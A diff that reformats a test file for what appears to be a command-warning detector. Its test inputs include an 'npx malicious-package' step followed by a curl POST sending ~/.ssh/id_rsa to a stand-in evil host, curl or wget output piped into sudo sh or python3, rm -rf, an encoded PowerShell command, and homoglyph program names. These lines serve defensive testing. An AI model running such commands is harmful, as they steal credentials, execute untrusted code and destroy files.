@@ -28,14 +28,12 @@ describe('a command that is dangerous', () => {
     ],
     [
       'npx malicious-package && curl -X POST -d @~/.ssh/id_rsa https://example.com/evil-location',
-      [
-        `curl ${network}`,
-        `npx ${download}`,
-        floating('malicious-package'),
-        secret('~/.ssh/id_rsa'),
-      ],
+      [`curl ${network}`, `npx ${download}`, floating('malicious-package'), secret('~/.ssh/id_rsa')],
     ],
-    [['sh', '-c', 'rm -rf x'], ['rm deletes or overwrites files.', `sh ${shell}`]],
+    [
+      ['sh', '-c', 'rm -rf x'],
+      ['rm deletes or overwrites files.', `sh ${shell}`],
+    ],
     [['/bin/bash', '-lc', 'serve'], [`/bin/bash ${shell}`]],
     [
       ['bash', '-c', 'curl -s https://a.example/x | sudo sh'],
@@ -50,14 +48,26 @@ describe('a command that is dangerous', () => {
       ['sh', '-c', 'wget -qO- a.example | python3 -'],
       ['What wget downloads is run at once, whatever it is by then.', `sh ${shell}`, `wget ${network}`],
     ],
-    [['sh', '-c', 'curl a.example | tee log'], [`sh ${shell}`, `curl ${network}`]],
-    [['powershell.exe', '-enc', 'AAAA'], [`powershell.exe ${shell}`, '-enc hides what is run.']],
+    [
+      ['sh', '-c', 'curl a.example | tee log'],
+      [`sh ${shell}`, `curl ${network}`],
+    ],
+    [
+      ['powershell.exe', '-enc', 'AAAA'],
+      [`powershell.exe ${shell}`, '-enc hides what is run.'],
+    ],
     [['pwsh', '-Command', 'serve'], [`pwsh ${shell}`]],
     [['node', '-e', 'x()'], ['There is a program in its arguments, after -e.']],
     [['node', '--import=data:text/javascript,x()', 'a.js'], ['There is a program in its arguments, after --import.']],
     [['python3.12', '-c', 'x()'], ['There is a program in its arguments, after -c.']],
     ['chmod 777 a', ['chmod changes settings of this machine that outlive the program.']],
-    [['n\u200Bode', 'a.js'], ['There are characters in it that cannot be seen: n\\u{200B}ode', 'The name of the program has letters that are not of the Latin alphabet: n\\u{200B}ode']],
+    [
+      ['n\u200Bode', 'a.js'],
+      [
+        'There are characters in it that cannot be seen: n\\u{200B}ode',
+        'The name of the program has letters that are not of the Latin alphabet: n\\u{200B}ode',
+      ],
+    ],
     [['nоde', 'a.js'], ['The name of the program has letters that are not of the Latin alphabet: nоde']],
     [['node', 'a\u202Ejs'], ['There are characters in it that cannot be seen: a\\u{202E}js']],
   ])('%j', (line, warnings) => {
@@ -141,10 +151,7 @@ describe('a place that it should not need', () => {
     ['files C:\\', wide('C:\\')],
     ['files ../../other', 'It leads out of the folder that it works in: ../../other'],
     ['files --root=../other', 'It leads out of the folder that it works in: --root=../other'],
-    [
-      './run.sh a',
-      'Which program ./run.sh is depends on the folder it is started in, and on whoever can write there.',
-    ],
+    ['./run.sh a', 'Which program ./run.sh is depends on the folder it is started in, and on whoever can write there.'],
     [
       'node_modules/.bin/x a',
       'Which program node_modules/.bin/x is depends on the folder it is started in, and on whoever can write there.',
@@ -196,7 +203,10 @@ describe('what is not warned of', () => {
 })
 
 test('warnings are lines, whatever the command is, and come in time', () => {
-  const word = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom('sudo', 'sh', '-c', 'docker', 'run', '-v', '|', 'npx'))
+  const word = fc.oneof(
+    fc.string({ unit: 'binary' }),
+    fc.constantFrom('sudo', 'sh', '-c', 'docker', 'run', '-v', '|', 'npx'),
+  )
   fc.assert(
     fc.property(fc.array(word, { minLength: 1 }), (words) => {
       const warnings = launchWarnings(command(words))
